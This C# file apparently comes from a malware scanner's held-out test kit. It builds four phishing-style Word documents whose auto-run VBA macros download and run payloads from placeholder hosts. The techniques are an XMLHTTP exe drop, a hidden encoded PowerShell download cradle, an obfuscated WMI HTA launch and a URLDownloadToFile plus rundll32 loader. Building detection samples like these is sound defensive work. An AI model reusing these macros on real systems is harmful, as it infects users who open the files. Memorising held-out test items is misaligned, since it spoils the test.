using static ScanHost.TestKit.HeldOut.Eighth.EighthOffice;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Word documents whose macros fetch a program and start it.</summary>
public sealed class WordMacroDownloaders : EighthRound
{
    private static readonly string Lure = P("This document is protected") + P("1. Open the document in Microsoft Office. Previewing online is not available for protected documents.") + P("2. If this document was downloaded from your email, please click \"Enable Editing\" from the yellow bar above.") + P("3. Once you have enabled editing, please click \"Enable Content\".");

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Invoice_INV-88213.docm", Word(Lure, macros: Vba(("ThisDocument", """
            Private Sub Document_Open()
                Dim xHttp: Set xHttp = CreateObject("Microsoft.XMLHTTP")
                Dim bStrm: Set bStrm = CreateObject("ADODB.Stream")
                Dim p As String
                p = Environ("TEMP") & "\svchost32.exe"
                xHttp.Open "GET", "http://cdn.freight-docs.example/wp-content/uploads/inv.exe", False
                xHttp.setRequestHeader "User-Agent", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0)"
                xHttp.Send
                If xHttp.Status = 200 Then
                    bStrm.Type = 1
                    bStrm.Open
                    bStrm.Write xHttp.responseBody
                    bStrm.SaveToFile p, 2
                    bStrm.Close
                    CreateObject("WScript.Shell").Run p, 0, False
                End If
            End Sub
            """))));
        yield return ("Rechnung 2026-1107.doc", Doc("Dieses Dokument wurde mit einer frueheren Version von Microsoft Office erstellt.\nBitte klicken Sie auf Inhalt aktivieren.", ("NewMacros", $"""
            Sub AutoOpen()
                Call Starten
            End Sub
            Sub Starten()
                Dim befehl As String
                befehl = "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {EighthForms.Encoded("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a/load.ps1')")}"
                Set sh = CreateObject("WScript.Shell")
                sh.Run befehl, 0, False
                ActiveDocument.Content.Text = "Rechnung konnte nicht geladen werden."
            End Sub
            """)));
        yield return ("CV Katarzyna Nowak.docm", Word(Lure, macros: Vba(
            ("ThisDocument", "Sub AutoOpen()\n    Application.OnTime Now + TimeValue(\"00:00:03\"), \"prepare_layout\"\nEnd Sub"),
            ("layouts", """
            Function kx(ByVal t As String) As String
                Dim i As Integer, o As String
                For i = 1 To Len(t) Step 3
                    o = o & Chr(CInt(Mid(t, i, 3)) Xor 77)
                Next
                kx = o
            End Function
            Sub prepare_layout()
                Dim w, q
                q = StrReverse("ssecorP_23niW")
                Set w = GetObject(StrReverse("2vmic\toor\.\\:}etanosrepmi=leveLnoitanosrepmi{!:stmgmniw"))
                Set c = w.Get(StrReverse("putratSssecorP_23niW")).SpawnInstance_
                c.ShowWindow = 0
                w.Get(q).Create kx("046032041109098046109032062037057044109") & ActiveDocument.Variables("u").Value & "/t.hta", Null, c, pid
            End Sub
            """)), settings: "<w:docVars><w:docVar w:name=\"u\" w:val=\"http://cv-nowak.example/w\"/></w:docVars>"));
        yield return ("Umowa_2026_11.docm", Word(P("Umowa nr 77/2026") + P("Prosze wlaczyc zawartosc, aby wyswietlic dokument."), macros: Vba(
            ("Module1", """
            #If VBA7 Then
            Private Declare PtrSafe Function pobierz Lib "urlmon" Alias "URLDownloadToFileW" (ByVal a As LongPtr, ByVal b As LongPtr, ByVal c As LongPtr, ByVal d As Long, ByVal e As LongPtr) As Long
            Private Declare PtrSafe Function otworz Lib "shell32" Alias "ShellExecuteW" (ByVal h As LongPtr, ByVal o As LongPtr, ByVal f As LongPtr, ByVal p As LongPtr, ByVal d As LongPtr, ByVal s As Long) As LongPtr
            #End If
            Sub Document_Close()
                Dim adres As String, cel As String, czesci
                czesci = Array("ht", "tps:", "//", "static", ".umowy-online", ".example", "/img/", "logo", ".png")
                adres = Join(czesci, "")
                cel = Environ$("APPDATA") & "\Microsoft\Templates\wct" & Int(Rnd * 9999) & "." & Chr(100) & Chr(108) & Chr(108)
                pobierz 0, StrPtr(adres), StrPtr(cel), 0, 0
                otworz 0, StrPtr("open"), StrPtr("run" & "dll" & "32"), StrPtr(cel & ",DllRegister" & "Server"), 0, 0
            End Sub
            """))));
    }
}
